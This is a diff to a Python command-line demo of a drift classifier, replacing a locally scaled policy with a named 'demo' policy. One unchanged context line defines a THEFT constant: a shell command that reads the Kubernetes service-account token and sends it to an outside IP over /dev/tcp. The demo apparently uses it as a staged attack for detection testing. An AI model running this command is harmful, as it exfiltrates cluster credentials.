@@ -18,10 +18,10 @@ import click
 
 from classifier.drift.finding import EXPECTED, RISKY, finding_to_dict, findings_json
 from classifier.pipeline import Pipeline
-from classifier.policy import DAY, Policy
 from console.cli.failure import FAILED, Failure
 from console.cli.findings import print_list
 from console.cli.output import COLOURS, emit_json, say
+from console.cli.policies import named
 from console.cli.records import fields_of
 from console.cli.showing import print_one
 from console.demo.lab import Lab, workplace
@@ -35,11 +35,6 @@ LEARN = 28.0  # seconds = days of the demo's policy, twice what convergence take
 THEFT = "cat /run/secrets/kubernetes.io/serviceaccount/token /etc/services > /dev/tcp/10.77.9.66/443"
 SCOPE = ("egress:tcp:kb.shop.internal:8080", "exec:/usr/bin/sort<*")
 WAIT = 60.0  # seconds for a label that is due
-
-
-def policy() -> Policy:
-    """The published policy with a day as long as a second."""
-    return Policy().scaled(DAY)
 
 
 def run(*, replay: bool = False, output: str | None = None, as_json: bool = False) -> int:
@@ -74,7 +69,7 @@ def replayed(path: Path) -> list[dict[str, Any]]:
 
 
 def _replay(path: Path) -> Pipeline:
-    pipeline = Pipeline(policy())
+    pipeline = Pipeline(named("demo"))
     for record in read(path):
         pipeline.feed(record)
     return pipeline
